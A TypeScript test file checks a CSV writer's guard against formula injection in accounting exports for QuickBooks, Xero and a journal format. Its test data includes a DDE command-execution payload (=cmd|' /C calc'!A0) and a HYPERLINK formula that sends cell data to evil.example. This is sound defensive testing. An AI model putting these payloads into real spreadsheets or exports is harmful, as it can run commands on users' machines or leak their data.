/**
 * The CSV writer's formula guard (OWASP CSV injection): text that a spreadsheet would run as a
 * formula is written as text, numbers (negative ones included) stay numbers, and what the writer
 * writes reads back through the same reader every import uses.
 */
import { describe, expect, it } from 'vitest';
import { csvLine, readCsvRecordsSync } from '../../../main/util/csv';
import { renderExport } from '../../../main/domain/accounting/formats';
import { ACCOUNT_KEYS, type AccountKey, type JournalDto } from '../../../shared/api/accounting';

const CALC = "=cmd|' /C calc'!A0";

describe('csvLine formula guard', () => {
  it.each(['=', '+', '-', '@', '\t', '\r'])('prefixes a text cell starting with %j with a quote', (first) => {
    const cell = `${first}SUM(A1:A9)`;
    const line = csvLine(['a', cell]);
    // The cell as a spreadsheet or our reader sees it: the ' makes it text.
    expect(readCsvRecordsSync(line)[0].cells).toEqual(['a', `'${cell}`]);
  });

  it('guards the classic DDE payload and keeps it one cell', () => {
    expect(csvLine(['Customer', CALC])).toBe(`Customer,'${CALC}`);
    expect(readCsvRecordsSync(csvLine([CALC, 'x']))[0].cells).toEqual([`'${CALC}`, 'x']);
  });

  it('leaves numbers alone, negative ones included', () => {
    expect(csvLine([-19.35, -7, 0, 42])).toBe('-19.35,-7,0,42');
    expect(csvLine(['-19.35', '-7', '0.50', '12'])).toBe('-19.35,-7,0.50,12');
  });

  it('guards text that only starts like a number', () => {
    expect(csvLine(['-5 units', '+44 20 7946 0000', '-', '-1e3', '-19.35.1'])).toBe("'-5 units,'+44 20 7946 0000,'-,'-1e3,'-19.35.1");
  });

  it('does not touch ordinary text, empty cells or a dangerous character later in the cell', () => {
    expect(csvLine(['Ada Lovelace', 'a=b', 'x-1', '', null, undefined, "O'Brien"])).toBe("Ada Lovelace,a=b,x-1,,,,O'Brien");
  });

  it('still quotes commas, quotes and line breaks after guarding', () => {
    const cells = ['=HYPERLINK("http://evil.example/?"&A1, "Click")', '-a,b', '@x\ny', 'plain "quoted"'];
    const line = csvLine(cells);
    expect(line).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1, ""Click"")","'-a,b","'@x\ny","plain ""quoted"""`);
    expect(readCsvRecordsSync(line)[0].cells).toEqual(cells.map((c) => (/^[=+\-@]/.test(c) ? `'${c}` : c)));
  });

  it('writes cells byte for byte when the guard is off (machine-read feeds)', () => {
    expect(csvLine(['=A1', '-SKU', '@x'], { formulaGuard: false })).toBe('=A1,-SKU,@x');
  });

  it('round-trips any text through the reader: the guard only ever adds one leading quote', () => {
    const samples = ['', 'a', '=1+2', '-19.35', '-x', '+', '@@', '\ttab', 'multi\nline', '"', ',', "'already"];
    const line = csvLine(samples);
    const back = readCsvRecordsSync(`h\n${line}`)[1].cells;
    back.forEach((cell, i) => {
      const original = samples[i];
      expect(cell === original || cell === `'${original}`).toBe(true);
    });
  });
});

describe('bookkeeping exports', () => {
  const accounts = Object.fromEntries(ACCOUNT_KEYS.map((k) => [k, k])) as Record<AccountKey, string>;
  const journal: JournalDto = {
    from: '2026-03-01',
    to: '2026-03-31',
    accounts,
    entries: [
      {
        date: '2026-03-02',
        kind: 'sale',
        reference: '#1001',
        memo: '=HYPERLINK("http://evil.example")',
        currency: 'USD',
        lines: [
          { account: 'funds', debitCents: 4065, creditCents: 0 },
          { account: 'sales', debitCents: 0, creditCents: 4065 },
        ],
        sale: {
          customer: CALC,
          email: null,
          address: { line1: '@1 Main St', line2: null, city: 'Springfield', region: null, postalCode: '12345', country: 'US' },
          lines: [{ sku: 'LAMP', name: 'Lamp', quantity: 2, unitPriceCents: 3000, discountCents: 1935, taxCents: 0 }],
          shippingCents: 0,
          taxCents: 0,
        },
      },
    ],
  };
  const rows = (format: 'journal' | 'qbo' | 'xero') => readCsvRecordsSync(renderExport(journal, format).content).map((r) => r.cells);

  it('QuickBooks Online: the customer is guarded, the discount stays a negative number', () => {
    const [header, item, discount] = rows('qbo');
    expect(item[header.indexOf('*Customer')]).toBe(`'${CALC}`);
    expect(item[header.indexOf('Memo')]).toBe(`'=HYPERLINK("http://evil.example")`);
    expect(discount[header.indexOf('*Item Amount')]).toBe('-19.35');
    expect(discount[header.indexOf('Item Rate')]).toBe('-19.35');
  });

  it('Xero: contact name and address are guarded, the negative unit amount is not', () => {
    const [header, item, discount] = rows('xero');
    expect(item[header.indexOf('*ContactName')]).toBe(`'${CALC}`);
    expect(item[header.indexOf('POAddressLine1')]).toBe("'@1 Main St");
    expect(discount[header.indexOf('*UnitAmount')]).toBe('-19.35');
  });

  it('journal CSV: the memo is guarded, amounts are plain numbers', () => {
    const [header, debit] = rows('journal');
    expect(debit[header.indexOf('memo')]).toBe(`'=HYPERLINK("http://evil.example")`);
    expect(debit[header.indexOf('debit')]).toBe('40.65');
  });

  it('IIF (tab-separated, read by QuickBooks Desktop, not a spreadsheet) keeps its own rules', () => {
    expect(renderExport(journal, 'iif').content).not.toContain(`'${CALC}`);
  });
});
